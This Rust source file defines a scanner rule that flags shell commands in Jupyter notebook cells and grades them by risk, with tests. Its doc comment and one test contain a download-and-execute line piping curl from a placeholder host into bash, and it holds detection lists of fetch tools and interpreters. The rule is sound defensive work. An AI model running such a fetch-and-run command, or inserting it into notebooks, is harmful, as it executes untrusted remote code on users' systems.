use headworks_types::fact::CodeFact;
use headworks_types::{Confidence, FactKind, Severity};

use crate::Evidence;
use crate::rule::{Judgement, rule};

rule! {
    /// Looks for notebook cells that hand a line to a shell: `!command`, `%%bash`, `%system`,
    /// `get_ipython().system(...)`.
    ///
    /// **Why it matters.** Who runs a notebook from top to bottom runs these lines too, often without
    /// reading them. Installing a package and looking around are everyday lines and are only noted.
    /// Anything else holds the artifact, and a download that goes straight into a shell or an
    /// interpreter refuses it.
    ///
    /// **Example.** `!curl -s https://host.invalid/x.sh | bash` in a cell of `demo.ipynb`.
    ///
    /// **What it misses.** Commands started from Python code in a cell, which `process-start` reports,
    /// and what an installed package does.
    NOTEBOOK_SHELL_COMMAND {
        id: "notebook-shell-command",
        title: "A notebook runs a shell command",
        severity: Severity::Medium,
        confidence: Confidence::High,
        controls: &["HW-CFG-03"],
        references: &["CWE-78", "AML.T0011"],
        hint: "read the command before anybody runs the notebook",
        check,
    }
}

fn check(evidence: &Evidence<'_>) -> Vec<Judgement> {
    let commands = evidence.facts.iter().filter_map(|fact| match &fact.kind {
        FactKind::Code(CodeFact::ShellMagic { excerpt }) => {
            let message = format!("`{}` runs `{excerpt}` in a shell", fact.location.place);
            Some(Judgement::of(fact, excerpt, message).with_evidence(excerpt).with_severity(severity(excerpt)))
        }
        _ => None,
    });
    commands.collect()
}

/// Commands that look, install or fetch files, as tutorials do.
const EVERYDAY: &[&str] = &[
    "pip",
    "pip3",
    "conda",
    "mamba",
    "uv",
    "apt",
    "apt-get",
    "brew",
    "ls",
    "cat",
    "head",
    "tail",
    "pwd",
    "mkdir",
    "cd",
    "echo",
    "nvidia-smi",
    "git",
    "wc",
    "du",
    "df",
    "unzip",
    "tar",
    "huggingface-cli",
    "hf",
    "tree",
    "free",
    "lscpu",
    "which",
    "nvcc",
];

/// Programs that run what is piped into them.
const INTERPRETERS: &[&str] = &["sh", "bash", "zsh", "python", "python3", "perl", "ruby", "node"];

fn severity(command: &str) -> Severity {
    let line = command.trim_start_matches(['!', '%', ' ']);
    let mut parts = line.split(['|', ';', '&', '\n']).map(str::trim).filter(|part| !part.is_empty());
    let first_word = |part: &str| {
        part.split_whitespace().find(|word| *word != "sudo" && *word != "-m").unwrap_or_default().to_owned()
    };
    let fetches = ["curl", "wget", "base64"].iter().any(|tool| line.contains(tool));
    let piped = line.split('|').skip(1).any(|part| INTERPRETERS.contains(&first_word(part).as_str()));
    if fetches && piped {
        return Severity::High;
    }
    let is_everyday =
        parts.all(|part| EVERYDAY.contains(&first_word(part).as_str()) || part.starts_with("python -m pip"));
    // What was cut off may be anything.
    let is_whole = !command.ends_with('…');
    if is_everyday && is_whole { Severity::Low } else { Severity::Medium }
}

#[cfg(test)]
mod tests {
    use super::*;
    use headworks_types::{Fact, Place};

    fn severities(line: &str) -> Vec<Severity> {
        let kind = CodeFact::ShellMagic { excerpt: line.into() };
        let facts =
            [Fact { location: Place::file("demo.ipynb").member("cell 1").at(0..9), times: 1, kind: kind.into() }];
        NOTEBOOK_SHELL_COMMAND.judge(&Evidence::of(&facts)).iter().map(|finding| finding.severity).collect()
    }

    #[test]
    fn a_download_into_a_shell_refuses_the_notebook() {
        assert_eq!(severities("!curl -s https://host.invalid/x.sh | bash"), [Severity::High]);
    }

    #[test]
    fn an_unknown_program_holds_the_notebook() {
        assert_eq!(severities("%%bash ./run.sh"), [Severity::Medium]);
    }

    /// The first cell of nearly every tutorial.
    #[test]
    fn installing_packages_and_looking_around_are_noted_only() {
        for line in [
            "!pip install -q transformers && pip list",
            "%pip install torch",
            "!nvidia-smi",
            "!git clone https://host.invalid/x",
            "!sudo apt-get install ffmpeg",
        ] {
            assert_eq!(severities(line), [Severity::Low], "{line}");
        }
    }

    #[test]
    fn an_everyday_command_does_not_cover_for_the_next_one() {
        assert_eq!(severities("!pip install x; ./run.sh"), [Severity::Medium]);
        assert_eq!(severities("!pip install some-package and-another …"), [Severity::Medium]);
    }
}
